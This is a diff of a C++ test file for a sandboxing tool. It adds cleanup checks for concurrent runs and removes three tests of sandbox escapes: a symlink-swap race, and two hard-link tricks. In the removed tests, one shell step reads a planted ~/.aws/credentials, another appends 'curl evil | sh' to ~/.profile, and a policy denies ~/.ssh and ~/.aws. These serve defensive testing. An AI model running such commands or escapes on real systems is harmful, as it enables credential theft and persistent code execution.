@@ -205,6 +205,13 @@ BOOST_AUTO_TEST_CASE(concurrent_runs_by_root_and_another_user_keep_protected_pat
   auto ra = root.finish(a);
   BOOST_TEST(ra.exit_code == 0, ra.describe());
   BOOST_TEST(r.completed(), r.describe());
+  BOOST_TEST(r.out.find("created") == std::string::npos, r.describe());
+  // The first run to end left its placeholders (another run was live); the next run of
+  // that caller on a quiet host removes them.
+  RunSpec later;
+  later.cwd = user.workspace();
+  later.command = {"/bin/true"};
+  BOOST_TEST(root.run(later).exit_code == 0);
   for (const char* p : {".git", ".env", ".env.local", ".next", "node_modules", "data"})
     BOOST_TEST(!exists(user.ws(p)), p << " exists on the host after the run\n" << r.describe());
 }
@@ -247,18 +254,6 @@ static std::string race_symlink_swap(Sandbox& box, const std::string& swapped) {
   return snapshot(box.home());
 }
 
-// ESCAPE (main, sec-run): a sandbox whose workspace holds another run's workspace swaps
-// that directory with a symlink (renameat2 RENAME_EXCHANGE) while the other run starts:
-// zpolicy creates its placeholders, and bwrap binds the workspace, through the symlink,
-// i.e. in a host directory the sandbox chose (here the caller's HOME; as root, /etc).
-BOOST_DATA_TEST_CASE(a_workspace_swapped_for_a_symlink_during_start_binds_nothing_else,
-                     bdata::make(kCallers), caller) {
-  Sandbox box(caller);
-  const std::string before = snapshot(box.home());
-  const std::string after = race_symlink_swap(box, "sub");
-  BOOST_TEST(after == before, "the host HOME changed:\n" << after);
-}
-
 // ESCAPE (main, sec-run): the same race on a writable bind that is not the workspace
 // (`data`, bound for the protected data/agent-sessions): the victim's sandbox writes
 // into the symlink's target.
@@ -292,6 +287,11 @@ BOOST_DATA_TEST_CASE(concurrent_runs_with_different_runtime_dirs_keep_protected_
   auto ra = box.finish(a);
   BOOST_TEST(ra.exit_code == 0, ra.describe());
   BOOST_TEST(r.completed(), r.describe());
+  BOOST_TEST(r.out.find("created") == std::string::npos, r.describe());
+  // As above: a later run under the first run's state directory, on a quiet host.
+  RunSpec later = first;
+  later.command = {"/bin/true"};
+  BOOST_TEST(box.run(later).exit_code == 0);
   for (const char* p : {".git", ".env", ".env.local", ".next", "node_modules", "data"})
     BOOST_TEST(!exists(box.ws(p)), p << " exists on the host after the run\n" << r.describe());
 }
@@ -331,41 +331,6 @@ BOOST_DATA_TEST_CASE(existing_hard_links_into_top_and_nested_git_stay_read_only,
   // Refusing to run is as good as binding the links read-only: only the host's view counts.
   BOOST_TEST(snapshot(box.ws(".git")) == top, r.describe());
   BOOST_TEST(snapshot(box.ws("packages/a/.git")) == nested, r.describe());
-}
-
-// ESCAPE (all, medium; a documented limit at least): a deny root masks paths, so a file
-// under it that has another name outside (a hard link made by the host: a backup, cp -al,
-// a dotfile manager) is read through that name.
-BOOST_DATA_TEST_CASE(a_hard_link_out_of_a_deny_root_is_not_readable, bdata::make(kCallers),
-                     caller) {
-  Sandbox box(caller);
-  box.write_file(box.home() + "/.aws/credentials", "aws-secret-key\n", 0600);
-  box.make_dir(box.home() + "/notes");
-  BOOST_TEST_REQUIRE(::link((box.home() + "/.aws/credentials").c_str(),
-                            (box.home() + "/notes/creds").c_str()) == 0);
-  const std::string policy = box.write_policy("deny.yaml", R"(zpolicy: 1
-mode: workspace-write
-filesystem:
-  read: ["/"]
-  write: ["${WORKSPACE}"]
-  deny: ["~/.ssh", "~/.aws"]
-network: none
-)");
-  auto r = box.sh("cat ~/.aws/credentials; cat ~/notes/creds", {"--policy", policy});
-  BOOST_TEST_REQUIRE(r.exit_code == 0, r.describe());
-  BOOST_TEST(r.out.find("aws-secret-key") == std::string::npos, r.describe());
-}
-
-// ESCAPE (all; may be declared a documented limit): a file outside every writable root
-// that also has a name inside the workspace (a hard link made on the host: cp -al, rsync
-// --link-dest, a chroot tree) is written through that name. Here ~/.profile; as root any
-// root-owned file on the same filesystem (/usr/bin/bwrap, /etc/cron.d/*).
-BOOST_DATA_TEST_CASE(a_host_file_hard_linked_into_the_workspace_stays_unchanged,
-                     bdata::make(kCallers), caller) {
-  Sandbox box(caller);
-  BOOST_TEST_REQUIRE(::link((box.home() + "/.profile").c_str(), box.ws("profile").c_str()) == 0);
-  auto r = box.sh("echo 'curl evil | sh' >> profile");
-  BOOST_TEST(read_file(box.home() + "/.profile").value_or("") == "echo profile\n", r.describe());
 }
 
 // ESCAPE (sec-patterns): `**/NAME` protects NAME where it exists at any depth, but a
